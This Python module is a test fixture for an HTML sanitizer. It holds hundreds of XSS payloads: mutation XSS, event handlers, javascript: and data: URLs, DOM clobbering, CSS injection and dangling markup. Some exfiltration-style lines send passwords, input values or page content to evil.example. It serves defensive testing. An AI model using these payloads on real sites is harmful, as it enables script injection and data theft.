"""Markup that attacks the page it is put into, by what it tries; each calls `pwned()` if it runs. No test lives here.

They are written for this project, after the classes of attack that the literature on sanitizers knows.
"""

from __future__ import annotations

MUTATION = r"""
<svg></p><style><a id="</style><img src=1 onerror=pwned()>">
<svg><style><img src=x onerror=pwned()></style></svg>
<svg><p><style><img src="</style><img src=x onerror=pwned()>">
<svg><desc><noscript><img title="</noscript><img src onerror=pwned()>"></desc></svg>
<svg><foreignObject><math><mi><xmp></math></svg><img src=x onerror=pwned()></xmp>
<svg><title><style><img src="</style><img src=x onerror=pwned()>"></title></svg>
<svg><script>pwned()</script></svg>
<svg><script href="data:text/javascript,pwned()"/></svg>
<svg><set attributeName=href to=javascript:pwned() /><a><text y=20>x</text></a></svg>
<svg><a xlink:href="javascript:pwned()"><text y=20>x</text></a></svg>
<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>
<svg onload=pwned()>
<svg/onload=pwned()//
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>pwned()</script></svg>#x"/></svg>
<svg><image href=x onerror=pwned() /></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.pwned()</script>"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">
<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=pwned() src>">
<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=pwned() src=1>">
<math><mi><table><mglyph><style><math><mi><img src onerror=pwned()></style>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=pwned()></style></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><svg><style><a title="</style><img src onerror=pwned()>">
<math href="javascript:pwned()">x</math>
<math><maction actiontype="statusline#http://e.org" xlink:href="javascript:pwned()">x</maction></math>
<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src onerror=pwned()>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>
<noscript><p title="</noscript><img src=x onerror=pwned()>">
<noscript><style></noscript><img src=x onerror=pwned()></style>
<noscript><!--</noscript><img src=x onerror=pwned()>--></noscript>
<template><script>pwned()</script></template>
<template><img src=x onerror=pwned()></template>
<template shadowrootmode=open><script>pwned()</script><img src=x onerror=pwned()></template>
<style><style/><img src=x onerror=pwned()>
<style></style><script>pwned()</script>
<style><!--</style><img src=x onerror=pwned()>--></style>
<textarea><title></textarea><img src=x onerror=pwned()></title>
<textarea></textarea><img src=x onerror=pwned()>
<title></title><img src=x onerror=pwned()>
<title><a title="</title><img src=x onerror=pwned()>">
<xmp><p title="</xmp><img src=x onerror=pwned()>">
<noembed><p title="</noembed><img src=x onerror=pwned()>"></noembed>
<noframes><p title="</noframes><img src=x onerror=pwned()>"></noframes>
<iframe><p title="</iframe><img src=x onerror=pwned()>"></iframe>
<plaintext><img src=x onerror=pwned()>
<listing>&lt;img src=x onerror=pwned()&gt;</listing>
<select><option><style></option></select><img src=x onerror=pwned()></style>
<select><template><img src=x onerror=pwned()></template></select>
<table><caption><svg><title><a id="</title><img src=x onerror=pwned()>">
<table><td><svg><desc><td><img src=x onerror=pwned()>
<table><style></table><img src=x onerror=pwned()></style>
<a><table><a href="javascript:pwned()"></table></a>
<p><b></p><table><a href=javascript:pwned()>x<tr><td></a>y
<form id=a><div></form><form id=b><img src=x onerror=pwned()>
<frameset><frame src="javascript:pwned()"></frameset>
<body><img src=x onerror=pwned()></body><frameset onload=pwned()>
<div><![CDATA[<img src=x onerror=pwned()>]]></div>
<svg><![CDATA[><img src=x onerror=pwned()>]]></svg>
<svg><!--<![CDATA[--><img src=x onerror=pwned()>]]></svg>
<!--><img src=x onerror=pwned()>-->
<!---><img src=x onerror=pwned()>-->
<!-- --!><img src=x onerror=pwned()>
<!-- <!-- --><img src=x onerror=pwned()> -->
<!foo="><img src=x onerror=pwned()>">
<?foo="><img src=x onerror=pwned()>">
</br title="><img src=x onerror=pwned()>">
</p title='<img src=x onerror=pwned()>'>
"""

HANDLERS = r'''
<p onclick=pwned()>x</p>
<img src=x onerror=pwned()>
<img src=x:x onerror="&#112;wned()">
<img/src/onerror=pwned()>
<img src=x onerror	=pwned()>
<img src=x oNeRrOr=pwned()>
<img src="x` `<script>pwned()</script>"` `>
<img """><script>pwned()</script>">
<img src='x' title='a' onerror='pwned()'
<b onfocus=pwned() tabindex=0 autofocus>x</b>
<a onfocus=pwned() href=# autofocus>x</a>
<input onfocus=pwned() autofocus>
<select onfocus=pwned() autofocus>
<textarea onfocus=pwned() autofocus>
<details open ontoggle=pwned()>x</details>
<video><source onerror=pwned()></video>
<video src=x onerror=pwned()></video>
<audio src=x onerror=pwned()></audio>
<body onload=pwned()>
<body onpageshow=pwned()>
<marquee onstart=pwned()>x</marquee>
<object data=x onerror=pwned()></object>
<embed src=x onload=pwned()>
<p style="animation:x 1ms" onanimationstart=pwned()>x</p><style>@keyframes x{}</style>
<p onanimationend=pwned() style="animation-name:x;animation-duration:1ms">x</p>
<div contenteditable onbeforeinput=pwned()>x</div>
<p onpointerrawupdate=pwned()>x</p>
<div oncontentvisibilityautostatechange=pwned() style="display:block;content-visibility:auto">x</div>
<link rel=stylesheet href=x onerror=pwned()>
<script>pwned()</script>
<script src="data:text/javascript,pwned()"></script>
<script type=module>pwned()</script>
<script type=importmap>{"imports":{"a":"data:text/javascript,pwned()"}}</script><script type=module>import "a"</script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["/evil"]}]}</script>
<scr<script>ipt>pwned()</scr</script>ipt>
<<script>pwned()//<</script>
<script/x>pwned()</script>
<script>/*<!--<script>*/pwned()</script>
'''

ADDRESSES = r"""
<a href=javascript:pwned()>x</a>
<a href=" javascript:pwned()">x</a>
<a href="&#1;javascript:pwned()">x</a>
<a href="java&#10;script:pwned()">x</a>
<a href="java&Tab;script:pwned()">x</a>
<a href="java&NewLine;script&colon;pwned()">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x70wned()">x</a>
<a href="jAvAsCrIpT:pwned()">x</a>
<a href="javascript://%0apwned()">x</a>
<a href="javascript:/*https://e.org/*/pwned()">x</a>
<a href="https:javascript:pwned()">x</a>
<a href="//javascript:pwned()">x</a>
<a href="\x01javascript:pwned()">x</a>
<a href="ｊavascript:pwned()">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>opener.pwned()</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">x</a>
<a href="blob:https://e.org/1">x</a>
<a href="filesystem:https://e.org/temporary/x.html">x</a>
<a href="view-source:javascript:pwned()">x</a>
<a href="feed:javascript:pwned()">x</a>
<a href="jar:https://e.org/x.jar!/x.html">x</a>
<a href="ms-msdt:/id x">x</a>
<a href=x target=_blank ping="javascript:pwned()" rel=opener>x</a>
<a href=javascript:pwned() href=https://e.org/>x</a>
<area href="javascript:pwned()" shape=default>
<img src=javascript:pwned()>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>">
<img srcset="javascript:pwned()">
<img srcset="data:image/svg+xml,x 1x, javascript:pwned() 2x, a.png 3x">
<img srcset="a.png 1x, b.png 2x" sizes="(min-width: 1px) 1px">
<img srcset="  ,,,  https://e.org/a.png   1x  ,javascript:pwned()">
<img lowsrc=javascript:pwned() dynsrc=javascript:pwned() longdesc=javascript:pwned()>
<picture><source srcset="javascript:pwned()"><img src=x></picture>
<blockquote cite="javascript:pwned()">x</blockquote>
<q cite=" java&#10;script:pwned()">x</q>
<del cite="data:text/html,x">x</del>
<table background="javascript:pwned()"><td background="javascript:pwned()">x</table>
<video poster="javascript:pwned()"></video>
<iframe src="javascript:parent.pwned()"></iframe>
<iframe srcdoc="<script>parent.pwned()</script>"></iframe>
<object data="javascript:pwned()"></object>
<object type=text/html data="data:text/html,<script>parent.pwned()</script>"></object>
<embed src="javascript:pwned()">
<applet code="javascript:pwned()"></applet>
<base href="javascript:/a/-pwned()//"><a href=x>y</a>
<base href="//evil.example/"><img src=a.png>
<meta http-equiv=refresh content="0;url=javascript:pwned()">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<meta http-equiv=Set-Cookie content="a=b">
<link rel=import href="data:text/html,<script>pwned()</script>">
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=prefetch href="https://evil.example/">
<link rel=manifest href="https://evil.example/">
<svg><a href="javascript:pwned()">x</a></svg>
<ol type="javascript:pwned()" start="javascript:pwned()"><li value="x">y</ol>
"""

FORMS = r"""
<form action="javascript:pwned()"><button>x</button></form>
<form><button formaction="javascript:pwned()">x</button></form>
<form><input type=image src=x formaction=javascript:pwned() onerror=pwned()></form>
<form id=f></form><button form=f formaction=javascript:pwned()>x</button>
<form action=https://evil.example/ method=post><input type=password name=p>
<isindex type=image src=x onerror=pwned()>
<keygen autofocus onfocus=pwned()>
<input type=hidden accesskey=x onclick=pwned()>
<button popovertarget=x>y</button><div popover id=x onbeforetoggle=pwned()>z</div>
<button commandfor=d command=show-modal>x</button><dialog id=d ontoggle=pwned()>x</dialog>
<label for=q onclick=pwned()>x</label>
<output for=q oninput=pwned()>x</output>
"""

CLOBBERING = r"""
<a id=document></a><a id=location></a>
<img name=cookie><img name=body><img name=getElementById>
<form name=document><input name=querySelector></form>
<a id=config><a id=config name=url href="https://evil.example/x.js">
<a name=defaultView></a><a name=scripts></a>
<p id=__proto__>x</p><p id=constructor>y</p>
<iframe name=config srcdoc="<a id=url href=javascript:pwned()></a>"></iframe>
<p id="x onclick=pwned()">y</p>
<p id='"><img src=x onerror=pwned()>'>y</p>
<p id="t-document">y</p><a href="#t-document">z</a>
<p class='"><img src=x onerror=pwned()>' id=a>y</p>
<p aria-labelledby='"><img src=x onerror=pwned()>'>y</p>
<td headers='"><img src=x onerror=pwned()>'>y
<a name='"><img src=x onerror=pwned()>'>y</a>
<a href='#"><img src=x onerror=pwned()>'>y</a><p id='"><img'>z</p>
<slot name=x>y</slot><p slot=x is=x-y part=z>w</p>
"""

STYLES = r"""
<p style="background:url(javascript:pwned())">x</p>
<p style="width:expression(pwned())">x</p>
<p style="behavior:url(#default#time2)" onbegin=pwned()>x</p>
<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>
<p style="position:fixed;inset:0;z-index:9999">x</p>
<style>@import "https://evil.example/x.css"; body{display:none}</style>
<style>input[value^=a]{background:url(https://evil.example/a)}</style>
<p style="&#x78;:url('javascript:pwned()')">x</p>
<font style="x" color="javascript:pwned()" face="x" size=9>x</font>
<xss style="xss:expr/*x*/ession(pwned())">x</xss>
<div style="list-style-image:url(data:image/svg+xml,x)">x</div>
"""

DANGLING = r"""
<img src='https://evil.example/?
<a href='https://evil.example/?
<base target='
<textarea>
<button><
<plaintext>
<p title="
<a href="https://e.org/" title='x
<meta http-equiv=refresh content='0;url=https://evil.example/?
<img srcset='https://evil.example/?
<table><tr><td
<!--
<script>
<style>
<b><i><u><a href=https://e.org/>
<x-y z='
</div></div></div><script>pwned()</script>
</body></html><img src=x onerror=pwned()>
&lt;img src=x onerror=pwned()&gt;
&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;
"""

GROUPS = {
    "mutation": MUTATION,
    "handlers": HANDLERS,
    "addresses": ADDRESSES,
    "forms": FORMS,
    "clobbering": CLOBBERING,
    "styles": STYLES,
    "dangling": DANGLING,
}

ATTACKS = tuple(line.replace("\\x01", "\x01") for group in GROUPS.values() for line in group.strip().split("\n"))
"""All of them, one string each."""
